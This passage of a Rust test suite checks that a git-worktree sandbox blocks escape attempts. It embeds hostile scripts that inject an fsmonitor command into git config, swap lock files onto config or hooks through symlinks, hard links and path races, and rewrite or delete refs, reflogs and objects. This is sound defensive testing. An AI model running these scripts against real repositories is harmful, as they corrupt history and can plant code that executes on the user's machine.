    write_lock(same + b"[core]\n\tfsmonitor = " + os.environ["EVIL"].encode() + b"\n")
    os.rename(lock, cfg)
def symlinked():
    other = os.path.join(os.getcwd(), "copy")
    open(other, "wb").write(same)
    os.symlink(other, lock)
    os.rename(lock, cfg)
def renameat():
    write_lock(same)
    d = os.open(common, os.O_RDONLY | os.O_DIRECTORY)
    os.rename("config.lock", "config", src_dir_fd=d, dst_dir_fd=d)
step("unchanged", unchanged)
step("changed", changed)
step("symlinked", symlinked)
step("renameat", renameat)
"#;

#[test]
fn only_an_unchanged_config_lock_is_taken_and_config_never_changes() {
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            for main in [false, true] {
                let l = Layout::new(uid, &[]);
                let dir = if main { &l.repo } else { &l.wt };
                let common = l.repo.join(".git");
                let before = std::fs::read(common.join("config")).unwrap();
                let script = format!(
                    "/usr/bin/python3 -c '{}' {}",
                    CONFIG_LOCK_OPS.replace('\'', "'\\''"),
                    common.display()
                );
                let (mut cmd, _copy) = sandboxed(uid, dir, b, &script);
                cmd.envs(l.vars()).stdin(Stdio::null());
                let out = cmd.output().unwrap();
                let stdout = String::from_utf8_lossy(&out.stdout);
                let what = format!("{b} / uid {uid:?} / main {main}");
                // Landlock in a main worktree: `config` is inside the writable worktree, kept by
                // the guard (restored); the renames themselves are the kernel's.
                let landlock_main = b == "landlock" && main;
                for (step, want) in [
                    ("unchanged", "unchanged ok"),
                    ("changed", "changed refused 13"),
                    ("symlinked", "symlinked refused"),
                    // From a directory descriptor: not git's call, untrapped, the kernel's.
                    ("renameat", "renameat refused"),
                ] {
                    let line = stdout.lines().find(|x| x.starts_with(step)).unwrap_or("");
                    // In a private view every step is the command's own: what counts is
                    // the repository's config after it.
                    if !landlock_main && !private_view(b) && !line.starts_with(want) {
                        failures.push(format!("{what}: {step}: {line:?}\n{}", show(&out)));
                    }
                }
                if std::fs::read(common.join("config")).unwrap() != before {
                    failures.push(format!("{what}: config changed\n{}", show(&out)));
                }
                if common.join("config.lock").exists() {
                    failures.push(format!("{what}: config.lock left behind"));
                }
                if !l.host_git().is_empty() || l.ran() {
                    failures.push(format!("{what}: host git after: {:?}", l.host_git()));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// What the host's git trusts in the common dir, and `packed-refs`: file contents, and the
/// entries of `hooks/`, `info/` and the other worktree's gitdir with their contents.
fn common_controls(common: &Path) -> Vec<(String, Option<Vec<u8>>)> {
    let mut out = Vec::new();
    for f in ["config", "packed-refs", "HEAD"] {
        out.push((f.to_string(), std::fs::read(common.join(f)).ok()));
    }
    for d in ["hooks", "info", "worktrees/wt2"] {
        let mut names: Vec<_> = std::fs::read_dir(common.join(d))
            .map(|rd| rd.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default();
        names.sort();
        for n in names {
            let p = Path::new(d).join(&n);
            out.push((p.display().to_string(), std::fs::read(common.join(&p)).ok()));
        }
    }
    out
}

/// The names of the common dir's top level.
fn common_names(common: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(common)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Ref deletions and `packed-refs` rewrites in a linked worktree, on the Landlock backend
/// (the supervisor performs git's `packed-refs.lock` protocol for the command).
const REF_OPS: &str = r#"set -e
umask 027
run() { echo "+ $*"; "$@"; }
run git branch x; run git branch -d x
run git tag t; run git tag -d t
run git update-ref refs/heads/u HEAD; run git update-ref -d refs/heads/u
echo s > f; git add f; run git stash push -q; run git stash clear
run git branch p; run git tag pt; run git pack-refs --all
run git branch -D p; run git tag -d pt
run git fetch -q --prune origin
test -z "$(git for-each-ref refs/remotes/origin/gone)"
/usr/bin/python3 -c '
import ctypes, fcntl, os, time
libc = ctypes.CDLL(None, use_errno=True)
p = os.environ["COMMON"].encode() + b"/packed-refs.lock"
for cloexec in (0, os.O_CLOEXEC):
    fd = libc.open(p, os.O_CREAT | os.O_EXCL | os.O_WRONLY | cloexec, 0o666)
    assert fd >= 0, os.strerror(ctypes.get_errno())
    assert os.write(fd, b"x") == 1
    assert bool(fcntl.fcntl(fd, fcntl.F_GETFD) & fcntl.FD_CLOEXEC) == bool(cloexec), cloexec
    assert os.stat(p).st_mode & 0o777 == 0o640, oct(os.stat(p).st_mode)
    # A change the git guard watches (the worktree top): it must leave a held lock alone.
    open("poke", "w").close()
    time.sleep(0.3)
    assert os.path.exists(p), "the git guard removed a held packed-refs.lock"
    os.close(fd)
    os.unlink(p)
    os.unlink("poke")
# The *at forms from AT_FDCWD (os.Remove in Go, renameat): served too.
c = os.environ["COMMON"].encode()
fd = libc.open(c + b"/packed-refs.new", os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666)
assert fd >= 0, os.strerror(ctypes.get_errno())
os.write(fd, open(c + b"/packed-refs", "rb").read())
os.close(fd)
assert libc.renameat(-100, c + b"/packed-refs.new", -100, c + b"/packed-refs") == 0, os.strerror(ctypes.get_errno())
fd = libc.open(p, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666)
assert fd >= 0 and libc.unlinkat(-100, p, 0) == 0, os.strerror(ctypes.get_errno())
os.close(fd)
print("lock: O_CLOEXEC honoured, umask applied, left alone while held; renameat, unlinkat")
'
echo ALL-OK
"#;

/// Landlock backend, linked worktree: branch/tag deletion, `update-ref -d`, `stash clear`,
/// `pack-refs` then deletion of packed refs, `fetch --prune` — exit 0, no `packed-refs.lock`
/// error, nothing of the common dir but `packed-refs` changed; the files the supervisor
/// creates get the caller's owner, umask and `O_CLOEXEC`.
#[test]
fn ref_deletion_works_on_landlock_through_the_supervisor() {
    if !backends().contains(&"landlock") {
        return;
    }
    let mut failures = Vec::new();
    for uid in uids() {
        let l = repo_with_remote(uid);
        let origin = l.s.path().join("origin.git");
        // A remote branch that is gone upstream, its tracking ref packed: --prune deletes it.
        for (dir, args) in [
            (&l.repo, &["push", "-q", "origin", "main:gone"][..]),
            (&l.repo, &["fetch", "-q", "origin"]),
            (&l.repo, &["pack-refs", "--all"]),
            (&origin, &["update-ref", "-d", "refs/heads/gone"]),
        ] {
            let mut cmd = Command::new("git");
            cmd.args(args).current_dir(dir).envs(git_env());
            as_uid(&mut cmd, uid);
            let out = cmd.output().unwrap();
            assert!(out.status.success(), "git {args:?}: {}", show(&out));
        }
        let common = l.repo.join(".git");
        let controls = common_controls(&common);
        let (mut cmd, _copy) = sandboxed(uid, &l.wt, "landlock", REF_OPS);
        cmd.envs(l.vars())
            .env("XDG_CONFIG_HOME", l.s.path().join("state"))
            .stdin(Stdio::null());
        let out = cmd.output().unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        let errors: Vec<&str> = text
            .lines()
            .filter(|l| {
                l.starts_with("error:") || l.starts_with("fatal:") || l.contains("packed-refs")
            })
            .collect();
        if out.status.code() != Some(0) || !errors.is_empty() || !text.contains("ALL-OK") {
            failures.push(format!("uid {uid:?}: {errors:?}\n{}", show(&out)));
            continue;
        }
        // Only packed-refs changed (config, hooks/, info/, the other worktree: as they were).
        let now = common_controls(&common);
        for ((name, was), (_, is)) in controls.iter().zip(&now) {
            if was != is && name != "packed-refs" {
                failures.push(format!("uid {uid:?}: {name} changed"));
            }
        }
        if controls.len() != now.len() {
            failures.push(format!("uid {uid:?}: entries added: {now:?}"));
        }
        let names = common_names(&common);
        if names.iter().any(|n| n.starts_with("packed-refs.")) {
            failures.push(format!("uid {uid:?}: left behind: {names:?}"));
        }
        // The rewritten packed-refs is the caller's, with its umask (027).
        use std::os::unix::fs::MetadataExt;
        let m = std::fs::metadata(common.join("packed-refs")).unwrap();
        if m.uid() != uid.unwrap_or(0) || m.mode() & 0o777 != 0o640 {
            failures.push(format!(
                "uid {uid:?}: packed-refs is uid {} mode {:o}",
                m.uid(),
                m.mode() & 0o777
            ));
        }
        let after = l.host_git();
        if !after.is_empty() {
            failures.push(format!("uid {uid:?}: host git after: {after:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// The gate also runs for the `packed-refs` traps alone — at Landlock ABI 9, where the kernel
/// mediates unix sockets, and with `--no-unix-gate` (used here to get that filter on this
/// kernel): ref deletion still works.
#[test]
fn ref_deletion_works_with_the_lockfile_traps_alone() {
    if !backends().contains(&"landlock") {
        return;
    }
    let l = repo_with_remote(None);
    let script = "set -e; git branch x; git pack-refs --all; git branch -D x; \
                  test -z \"$(git for-each-ref refs/heads/x)\"; echo ALL-OK";
    let out = Command::new(SANDBOX)
        .current_dir(&l.wt)
        .envs(git_env())
        .arg(&l.wt)
        .args([
            "--backend",
            "landlock",
            "--no-unix-gate",
            "--allow-degraded",
        ])
        .args(["-c", script])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let text = show(&out);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(
        text.contains("ALL-OK") && !text.contains("packed-refs.lock"),
        "{text}"
    );
}

/// What a command tries with the supervisor's `packed-refs` operations, on the Landlock
/// backend: every other create, rename, link or unlink in the common dir is refused (the
/// lock's own steps work); `ESCAPED` marks one that got through, `BROKEN` a step git needs
/// that failed.
const LOCK_ATTACKS: &str = r#"/usr/bin/python3 - <<'PY'
import ctypes, errno, os, threading
C, G, W = os.environ["COMMON"], os.environ["GITDIR"], os.getcwd()
libc = ctypes.CDLL(None, use_errno=True)
X = os.O_CREAT | os.O_EXCL | os.O_WRONLY
def attempt(name, f):
    try:
        f()
        print("ESCAPED", name)
    except OSError as e:
        print("refused", name, errno.errorcode.get(e.errno))
def must(name, f):
    try:
        f()
        print("ok", name)
    except OSError as e:
        print("BROKEN", name, e)
for p in ("config", "hooks/pre-commit", "hooks/packed-refs.lock",
          "info/packed-refs.lock", "info/exclude.lock", "worktrees/wt2/packed-refs.lock",
          "worktrees/wt2/HEAD.lock", "packed-refs.lock/x", "packed-refs.lockx"):
    attempt("create " + p, lambda p=p: os.open(C + "/" + p, X, 0o666))
attempt("truncate config", lambda: os.open(C + "/config", os.O_WRONLY | os.O_TRUNC))
attempt("rewrite packed-refs in place", lambda: os.open(C + "/packed-refs", os.O_WRONLY | os.O_APPEND))
info = os.open(C + "/info", os.O_RDONLY | os.O_DIRECTORY)
attempt("create packed-refs.lock relative to info/", lambda: os.open("packed-refs.lock", X, 0o666, dir_fd=info))
os.symlink(C + "/info", W + "/i")
attempt("create packed-refs.lock through a symlink to info/", lambda: os.open(W + "/i/packed-refs.lock", X, 0o666))
# The lock itself: created (by the supervisor), written, then nothing else may be done with it.
def lock():
    fd = os.open(C + "/packed-refs.lock", X, 0o666)
    os.write(fd, b"[core]\n\tfsmonitor = /bin/false\n")
    os.close(fd)
must("create the lock", lock)
# git chmods config.lock like config: the gate performs it for its own names, in the common
# dir, and continues every other chmod (Landlock does not mediate chmod: README, "Landlock
# limits").
if os.environ["BACKEND"] != "landlock":
    must("chmod the lock", lambda: os.chmod(C + "/packed-refs.lock", 0o640))
    for p in ("config", "hooks/packed-refs.lock", "packed-refs", "HEAD"):
        attempt("chmod " + p, lambda p=p: os.chmod(C + "/" + p, 0o777))
# config.lock: created for git's rewrite of the configuration, never renamed onto it changed.
def config_lock():
    fd = os.open(C + "/config.lock", X, 0o666)
    os.write(fd, b"[core]\n\tfsmonitor = /bin/false\n")
    os.close(fd)
must("create config.lock", config_lock)
attempt("rename a changed config.lock onto config", lambda: os.rename(C + "/config.lock", C + "/config"))
attempt("rename config.lock onto HEAD", lambda: os.rename(C + "/config.lock", C + "/HEAD"))
must("unlink config.lock", lambda: os.unlink(C + "/config.lock"))
for to in ("config", "hooks/pre-commit", "info/attributes", "worktrees/wt2/HEAD", "HEAD"):
    attempt("rename the lock onto " + to, lambda to=to: os.rename(C + "/packed-refs.lock", C + "/" + to))
    attempt("link the lock as " + to, lambda to=to: os.link(C + "/packed-refs.lock", C + "/" + to))
def exchange(a, b):
    r = libc.syscall(316, -100, a.encode(), -100, b.encode(), 2)  # renameat2 RENAME_EXCHANGE
    if r != 0:
        raise OSError(ctypes.get_errno(), "renameat2")
attempt("exchange the lock with config", lambda: exchange(C + "/packed-refs.lock", C + "/config"))
attempt("exchange the lock with packed-refs", lambda: exchange(C + "/packed-refs.lock", C + "/packed-refs"))
open(W + "/evil", "w").write("0000000000000000000000000000000000000000 refs/heads/main\n")
open(G + "/evil", "w").write("0000000000000000000000000000000000000000 refs/heads/main\n")
os.symlink(C + "/config", W + "/packed-refs.lock")
for src in (W + "/evil", G + "/evil", C + "/config", C + "/hooks/packed-refs.lock",
            W + "/packed-refs.lock", C + "/packed-refs.new"):
    attempt("rename " + src + " onto packed-refs", lambda src=src: os.rename(src, C + "/packed-refs"))
for p in ("config", "packed-refs", "hooks/packed-refs.lock", "HEAD"):
    attempt("unlink " + p, lambda p=p: os.unlink(C + "/" + p))
must("unlink the lock", lambda: os.unlink(C + "/packed-refs.lock"))
attempt("symlink packed-refs.lock to config", lambda: os.symlink("config", C + "/packed-refs.lock"))
attempt("hard link config as packed-refs.lock", lambda: os.link(C + "/config", C + "/packed-refs.lock"))
# A thread flips the path between the lock and a hook while the other opens it.
buf = ctypes.create_string_buffer((C + "/packed-refs.lock").encode(), 4096)
names = [(C + "/packed-refs.lock").encode(), (C + "/hooks/pre-commit").encode()]
stop = False
def flip():
    i = 0
    while not stop:
        ctypes.memmove(buf, names[i % 2], len(names[i % 2]) + 1)
        i += 1
t = threading.Thread(target=flip)
t.start()
for _ in range(2000):
    fd = libc.open(buf, X, 0o666)
    if fd >= 0:
        os.close(fd)
        if os.path.exists(C + "/hooks/pre-commit"):
            print("ESCAPED racing the path: hooks/pre-commit created")
            break
        libc.unlink((C + "/packed-refs.lock").encode())
stop = True
t.join()
print("DONE")
PY"#;

/// Every backend: the supervisor's `packed-refs` operations cannot be turned against
/// anything else of the common dir (see [`LOCK_ATTACKS`]; in a private view they are all the
/// command's own): config, hooks/, info/, the other worktree and packed-refs itself are
/// untouched, and nothing is left behind. Set up by the
/// host: `packed-refs.new` as a hard link to `config` (the supervisor's rename must refuse
/// it) and a `hooks/packed-refs.lock` (right name, wrong directory).
#[test]
fn the_supervisors_packed_refs_operations_reach_nothing_else() {
    let mut failures = Vec::new();
    for (b, uid) in backends()
        .into_iter()
        .flat_map(|b| uids().into_iter().map(move |u| (b, u)))
    {
        let l = repo_with_remote(uid);
        let common = l.repo.join(".git");
        std::fs::hard_link(common.join("config"), common.join("packed-refs.new")).unwrap();
        std::fs::write(common.join("hooks/packed-refs.lock"), "host\n").unwrap();
        if let Some(u) = uid {
            l.s.chown_all(u);
        }
        let controls = common_controls(&common);
        let names = common_names(&common);
        let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, LOCK_ATTACKS);
        cmd.envs(l.vars()).env("BACKEND", b).stdin(Stdio::null());
        let out = cmd.output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        // In a private view every operation is on the command's own copy: what counts is
        // the repository after it.
        let bad: Vec<&str> = stdout
            .lines()
            .filter(|l| l.starts_with("ESCAPED") || l.starts_with("BROKEN"))
            .filter(|_| !private_view(b))
            .collect();
        if !bad.is_empty() || !stdout.contains("DONE") {
            failures.push(format!("{b} / uid {uid:?}: {bad:?}\n{}", show(&out)));
        }
        if common_controls(&common) != controls {
            failures.push(format!(
                "{b} / uid {uid:?}: the common dir's controls changed"
            ));
        }
        if common_names(&common) != names {
            failures.push(format!(
                "{b} / uid {uid:?}: common dir names {:?} became {:?}",
                names,
                common_names(&common)
            ));
        }
        let after = l.host_git();
        if !after.is_empty() {
            failures.push(format!("{b} / uid {uid:?}: host git after: {after:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Locks the host's own git holds in the common dir (a concurrent `git pack-refs`, `git
/// config`): the gate performs git's lock protocol only on the files it made for the command,
/// so the command can neither remove, replace nor (namespace backends) `chmod` the host's.
#[test]
fn the_hosts_own_locks_in_the_common_dir_are_out_of_reach() {
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let l = Layout::new(uid, &[]);
            let common = l.repo.join(".git");
            let locks = ["packed-refs.lock", "config.lock"];
            for lock in locks {
                std::fs::write(common.join(lock), "host\n").unwrap();
                std::fs::set_permissions(
                    common.join(lock),
                    std::os::unix::fs::PermissionsExt::from_mode(0o600),
                )
                .unwrap();
            }
            if let Some(u) = uid {
                l.s.chown_all(u);
            }
            let chmod = if b == "landlock" {
                "" // Landlock does not mediate chmod (docs/GIT.md, "Landlock limits")
            } else {
                "chmod 777 \"$COMMON/config.lock\" \"$COMMON/packed-refs.lock\"; "
            };
            let script = format!(
                "{chmod}rm -f \"$COMMON/config.lock\" \"$COMMON/packed-refs.lock\"; \
                 mv \"$COMMON/packed-refs.lock\" \"$COMMON/packed-refs\"; \
                 mv \"$COMMON/config.lock\" \"$COMMON/config\"; true"
            );
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, &script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            for lock in locks {
                let meta = std::fs::metadata(common.join(lock));
                let mode =
                    meta.map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777);
                if mode.as_ref().ok() != Some(&0o600) {
                    failures.push(format!(
                        "{b} / uid {uid:?}: the host's {lock}: {mode:?}\n{}",
                        show(&out)
                    ));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Branches checked out in other worktrees (and their reflogs), the main worktree's HEAD and
/// index: the command cannot change them on the namespace backends, also by rewriting their
/// lines in `packed-refs` in place (once the run had ended, a packed branch moved) or by
/// moving their directory away (`mv refs/heads refs/x` and new files in a new `refs/heads`
/// moved them all), nor add a name to the common dir (a `MERGE_HEAD` for the main worktree);
/// a lock it leaves on them (`refs/heads/main.lock`) is removed when it ends.
#[test]
fn other_worktrees_branches_head_index_and_reflogs_are_untouched() {
    let mut failures = Vec::new();
    for b in backends().into_iter().filter(|b| *b != "landlock") {
        for uid in uids() {
            let l = repo_with_remote(uid);
            let common = l.repo.join(".git");
            let watched = [
                "logs/refs/heads/main",
                "logs/refs/heads/wt2",
                "logs/HEAD",
                "HEAD",
                "index",
                "worktrees/wt2/HEAD",
                "worktrees/wt2/index",
            ];
            let before: Vec<Option<Vec<u8>>> = watched
                .iter()
                .map(|p| std::fs::read(common.join(p)).ok())
                .collect();
            let rev = |what: &str| {
                let mut cmd = Command::new("git");
                cmd.args(["rev-parse", "--verify", "-q", what])
                    .current_dir(&l.repo);
                as_uid(&mut cmd, uid);
                String::from_utf8_lossy(&cmd.output().unwrap().stdout)
                    .trim()
                    .to_string()
            };
            let branches = ["refs/heads/main", "refs/heads/wt2"];
            let branches_before: Vec<String> = branches.iter().map(|b| rev(b)).collect();
            let script = "git update-ref refs/heads/main HEAD~0 2>&1; \
                 git update-ref refs/heads/wt2 HEAD 2>&1; \
                 echo 0000000000000000000000000000000000000000 > \"$COMMON/refs/heads/wt2\"; \
                 rm -f \"$COMMON/logs/refs/heads/main\" \"$COMMON/logs/refs/heads/wt2\" \"$COMMON/logs/HEAD\" \"$COMMON/index\"; \
                 echo 'ref: refs/heads/wt' > \"$COMMON/HEAD\"; \
                 echo 'ref: refs/heads/wt' > \"$COMMON/worktrees/wt2/HEAD\"; \
                 sed -i s/main/wt/ \"$COMMON/packed-refs\"; \
                 git commit -q --allow-empty -m evil; E=$(git rev-parse HEAD); \
                 sed -E \"s#^[0-9a-f]{40} refs/heads/(main|wt2)\\$#$E refs/heads/\\1#\" \"$COMMON/packed-refs\" > /tmp/pr.$$ \
                   && cat /tmp/pr.$$ > \"$COMMON/packed-refs\"; rm -f /tmp/pr.$$; \
                 mv \"$COMMON/refs/heads\" \"$COMMON/refs/hx\" && mkdir \"$COMMON/refs/heads\" \
                   && echo $E > \"$COMMON/refs/heads/main\" && echo $E > \"$COMMON/refs/heads/wt2\"; \
                 mv \"$COMMON/logs/refs/heads\" \"$COMMON/logs/refs/hx\"; \
                 : > \"$COMMON/refs/heads/main.lock\"; : > \"$COMMON/refs/heads/wt2.lock\"; \
                 git rev-parse HEAD > \"$COMMON/MERGE_HEAD\"; \
                 git reflog expire --expire=now --all; true";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            for (p, was) in watched.iter().zip(&before) {
                let now = std::fs::read(common.join(p)).ok();
                if &now != was {
                    failures.push(format!("{b} / uid {uid:?}: {p} changed\n{}", show(&out)));
                }
            }
            for (branch, was) in branches.iter().zip(&branches_before) {
                if rev(branch) != *was {
                    failures.push(format!("{b} / uid {uid:?}: {branch} moved\n{}", show(&out)));
                }
            }
            let head = |dir: &Path| {
                let mut cmd = Command::new("git");
                cmd.args(["rev-parse", "HEAD"]).current_dir(dir);
                as_uid(&mut cmd, uid);
                let out = cmd.output().unwrap();
                String::from_utf8_lossy(&out.stdout).trim().to_string()
            };
            // Locks on their branches would stop the host's git from moving them.
            for lock in ["refs/heads/main.lock", "refs/heads/wt2.lock"] {
                if common.join(lock).exists() {
                    failures.push(format!("{b} / uid {uid:?}: {lock} left\n{}", show(&out)));
                }
            }
            // A merge the main worktree never started.
            if common.join("MERGE_HEAD").exists() {
                failures.push(format!(
                    "{b} / uid {uid:?}: MERGE_HEAD planted in the common dir"
                ));
            }
            if head(&l.repo).is_empty() || head(&l.wt2).is_empty() {
                failures.push(format!("{b} / uid {uid:?}: a worktree lost its HEAD"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// A merge the host starts in the main worktree while a run in a linked worktree lasts is
/// the host's: it survives the run on every backend (removing every name added to the common
/// dir once deleted `MERGE_HEAD`, and a rebase's state, at the run's end or at once).
#[test]
fn a_merge_the_host_starts_during_a_run_survives_it() {
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let l = Layout::new(uid, &[]);
            let host_git = |args: &[&str]| {
                let mut cmd = Command::new("git");
                cmd.args(args).current_dir(&l.repo).envs(git_env());
                as_uid(&mut cmd, uid);
                cmd.output().unwrap()
            };
            for args in [
                &["checkout", "-q", "-b", "side"][..],
                &["commit", "-q", "--allow-empty", "-m", "side"],
                &["checkout", "-q", "-"],
            ] {
                let out = host_git(args);
                assert!(out.status.success(), "{}", show(&out));
            }
            let ready = l.signal_file("merge");
            let go = l.s.path().join("go");
            let script = format!(
                "touch {r}; while [ ! -e {g} ]; do sleep 0.02; done",
                r = ready.display(),
                g = go.display()
            );
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, &script);
            cmd.envs(l.vars())
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::piped());
            let mut child = cmd.spawn().unwrap();
            let started = wait_for(&ready, &mut child);
            let _ = std::fs::remove_file(&ready);
            let merge = host_git(&["merge", "-q", "--no-ff", "--no-commit", "side"]);
            // Long enough for the Landlock guard's watcher to act, had it anything to do.
            std::thread::sleep(Duration::from_millis(300));
            std::fs::write(&go, "").unwrap();
            let out = child.wait_with_output().unwrap();
            let cell = format!("{b} / uid {uid:?}");
            if !started || !merge.status.success() {
                failures.push(format!("{cell}: no run or no merge\n{}", show(&merge)));
                continue;
            }
            if !l.repo.join(".git/MERGE_HEAD").exists() {
                failures.push(format!(
                    "{cell}: the host's MERGE_HEAD is gone\n{}",
                    show(&out)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Existing objects: on the namespace backends the store is read-only under the object
/// quarantine (a deletion or rewrite fails, new objects reach the store when the run ends); on
/// Landlock a loose object rewritten under its name, or deleted, and a deleted pack are named
/// when the run ends, and the run fails (exit status 125).
#[test]
fn existing_objects_are_read_only_or_named_when_destroyed() {
    let mut failures = Vec::new();
    let setup: &[&[&str]] = &[
        &["repack", "-adq"],
        &["commit", "-q", "--allow-empty", "-m", "loose"],
    ];
    for b in backends() {
        for uid in uids() {
            let l = Layout::new(uid, setup);
            let objects = l.repo.join(".git/objects");
            let rev = |what: &str| {
                let mut cmd = Command::new("git");
                cmd.args(["rev-parse", what]).current_dir(&l.repo);
                as_uid(&mut cmd, uid);
                String::from_utf8_lossy(&cmd.output().unwrap().stdout)
                    .trim()
                    .to_string()
            };
            let loose = rev("main");
            let loose_path = objects.join(&loose[..2]).join(&loose[2..]);
            let loose_before = std::fs::read(&loose_path).unwrap();
            let packs_before = std::fs::read_dir(objects.join("pack")).unwrap().count();
            // The command plants an object and copies it over an existing one, deletes the
            // packs, and says which object it planted.
            let script = format!(
                "X=$(echo planted $$ | git hash-object -w --stdin); echo $X; \
                 P=\"$COMMON/objects/{a}/{b}\"; chmod u+w \"$P\"; rm -f \"$P\"; \
                 cp \"$COMMON/objects/$(echo $X | cut -c1-2)/$(echo $X | cut -c3-)\" \"$P\"; \
                 Q=$(cat \"$COMMON/objects/info/alternates\" 2>/dev/null); \
                 rm -f \"$COMMON\"/objects/pack/* ${{Q:+\"$Q\"/pack/*}} ${{Q:+\"$Q/{a}/{b}\"}}; true",
                a = &loose[..2],
                b = &loose[2..]
            );
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, &script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let err = String::from_utf8_lossy(&out.stderr);
            let planted = String::from_utf8_lossy(&out.stdout).trim().to_string();
            let cell = format!("{b} / uid {uid:?}");
            let packs_after = std::fs::read_dir(objects.join("pack")).unwrap().count();
            if b == "landlock" {
                if out.status.code() != Some(125) {
                    failures.push(format!("{cell}: exit status\n{}", show(&out)));
                }
                if !err.contains(&format!("git object {loose}: rewritten")) {
                    failures.push(format!("{cell}: rewrite not named\n{}", show(&out)));
                }
                if !err.contains("deleted with pack-") {
                    failures.push(format!("{cell}: pack deletion not named\n{}", show(&out)));
                }
                continue;
            }
            if out.status.code() != Some(0) {
                failures.push(format!("{cell}: exit status\n{}", show(&out)));
            }
            if std::fs::read(&loose_path).ok().as_deref() != Some(&loose_before[..]) {
                failures.push(format!("{cell}: object {loose} changed\n{}", show(&out)));
            }
            if packs_after != packs_before {
                failures.push(format!("{cell}: a pack was deleted\n{}", show(&out)));
            }
            if planted.len() != 40 || rev(&format!("{planted}^{{blob}}")) != planted {
                failures.push(format!(
                    "{cell}: the new object {planted:?} is not in the store\n{}",
                    show(&out)
                ));
            }
            let left: Vec<_> = l.quarantines().iter().flat_map(|q| walk_files(q)).collect();
            let strays = not_in_store(&l.repo, &left);
            if !strays.is_empty() {
                failures.push(format!("{cell}: left in the quarantine only: {strays:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Runs that commit, with git's renames trapped by the gate: every commit reaches the store,
/// none is left in the quarantine, and the supervisor is never killed by a signal its helper
/// threads must not take (an object copier started with signals unblocked took the SIGIO of
/// the command's exit in about a third of the runs and died: exit status 157).
#[test]
fn commits_reach_the_store_and_the_supervisor_survives_its_threads() {
    let mut failures = Vec::new();
    for b in backends() {
        let l = Layout::new(None, &[]);
        let mut head = String::new();
        for i in 0..8 {
            let script =
                format!("echo {i} >> f; git add f; git commit -qm c{i} && git rev-parse HEAD");
            let (mut cmd, _copy) = sandboxed(None, &l.wt, b, &script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            head = String::from_utf8_lossy(&out.stdout).trim().to_string();
            if out.status.code() != Some(0) || head.len() != 40 {
                failures.push(format!("{b}: run {i} failed\n{}", show(&out)));
                break;
            }
        }
        if let Some(why) = l.lacks(&head) {
            failures.push(format!("{b}: the store lacks the run's commits\n{why}"));
        }
        // Nothing of the runs stays in the repository, nor in their quarantines.
        if let Some(name) = l.stray_in_common() {
            failures.push(format!("{b}: {name} left in the common dir"));
        }
        for q in l.quarantines() {
            let strays: Vec<_> = walk_files(&q)
                .into_iter()
                .filter(|f| !f.ends_with("info/alternates"))
                .collect();
            if !strays.is_empty() {
                failures.push(format!("{b}: left in {} only: {strays:?}", q.display()));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Those of `files` (in a quarantine's fan-out directories) that are not objects the store
/// of `repo` holds.
fn not_in_store(repo: &Path, files: &[PathBuf]) -> Vec<PathBuf> {
    files
        .iter()
        .filter(|f| {
            let fan = f.parent().and_then(|p| p.file_name()).unwrap_or_default();
            let name = f.file_name().unwrap_or_default();
            let oid = format!("{}{}", fan.to_string_lossy(), name.to_string_lossy());
            !Command::new("git")
                .args(["cat-file", "-e", &oid])
                .current_dir(repo)
                .envs(git_env())
                .status()
                .is_ok_and(|s| s.success())
        })
        .cloned()
        .collect()
}

/// Every file beneath `dir` except `info/` (what a quarantine holds besides its alternates).
fn walk_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if e.file_type().is_ok_and(|t| t.is_dir()) {
            if e.file_name() != "info" {
                out.extend(walk_files(&p));
            }
        } else {
            out.push(p);
        }
    }
    out
}

/// Landlock below ABI 9 (the unix-socket gate runs): a command that both changes a file the
/// host's git trusts and is refused a host socket gets both closing records on the one
/// `--report` descriptor, after the unchanged first record.
#[test]
fn the_report_closes_with_both_the_refused_sockets_and_the_git_restore() {
    if !backends().contains(&"landlock") || landlock_abi() >= 9 {
        return;
    }
    let s = Scratch::new();
    let repo = s.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["commit", "-q", "--allow-empty", "-m", "init"]);
    git(&repo, &["worktree", "add", "-q", "../wt"]);
    let wt = s.path().join("wt");
